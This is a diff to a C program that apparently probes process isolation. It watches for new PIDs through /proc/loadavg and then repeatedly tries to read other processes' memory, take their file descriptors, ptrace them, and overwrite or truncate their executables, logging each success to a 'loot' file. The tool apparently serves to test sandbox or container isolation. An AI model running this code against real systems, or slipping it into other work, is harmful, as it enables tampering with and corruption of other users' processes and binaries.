@@ -103,10 +103,10 @@ static void try_exe(int pid)
 		return;
 	fprintf(loot, "exe %s\n", exe);
 	snprintf(path, sizeof(path), "/proc/self/fd/%d", fd);
-	for (int i = 0; i < 2000 && out < 0; i++) {
+	for (int i = 0; i < 100 && out < 0; i++) {
 		out = open(path, O_WRONLY | O_CLOEXEC);
 		if (out < 0)
-			usleep(100);
+			usleep(1000);
 	}
 	if (out >= 0 && (pwrite(out, "#!/bad", 6, 0) > 0 || !ftruncate(out, 0)))
 		fprintf(loot, "written %s\n", exe);
@@ -115,30 +115,51 @@ static void try_exe(int pid)
 	close(fd);
 }
 
+/* The last pid given out in this pid namespace, which is loadavg's last number. */
+static int newest(int loadavg)
+{
+	char text[128], *at;
+	ssize_t n = pread(loadavg, text, sizeof(text) - 1, 0);
+
+	text[n < 0 ? 0 : n] = '\0';
+	at = strrchr(text, ' ');
+	return at ? atoi(at) : 0;
+}
+
+static void attack(int pid, int pidfd)
+{
+	for (int i = 0; i < 30; i++) {
+		try_memory(pid);
+		try_fds(pid, pidfd);
+		try_exe(pid);
+		if (i % 8 == 0)
+			try_ptrace(pid);
+	}
+}
+
 int main(int argc, char **argv)
 {
-	int last = getpid();
+	int loadavg = open("/proc/loadavg", O_RDONLY | O_CLOEXEC), last = getpid();
 
-	loot = argc == 2 ? fopen(argv[1], "w") : NULL;
-	if (!loot)
+	loot = argc == 2 ? fopen(argv[1], "we") : NULL;
+	if (!loot || loadavg < 0)
 		return 2;
 	setvbuf(loot, NULL, _IOLBF, 0);
 	fprintf(loot, "ready\n");
 	for (;;) {
-		for (int pid = last + 1; pid < last + 4; pid++) {
+		int end = newest(loadavg) + 2;
+
+		for (int pid = last + 1; pid < end; pid++) {
 			int pidfd = (int)syscall(SYS_pidfd_open, pid, 0);
 
 			if (pidfd < 0)
 				continue;
-			for (int i = 0; i < 30; i++) {
-				try_memory(pid);
-				try_fds(pid, pidfd);
-				try_exe(pid);
-				if (i % 8 == 0)
-					try_ptrace(pid);
-			}
+			attack(pid, pidfd);
 			close(pidfd);
 			last = pid;
 		}
+		/* Those that came and went. */
+		if (last < end - 3)
+			last = end - 3;
 	}
 }
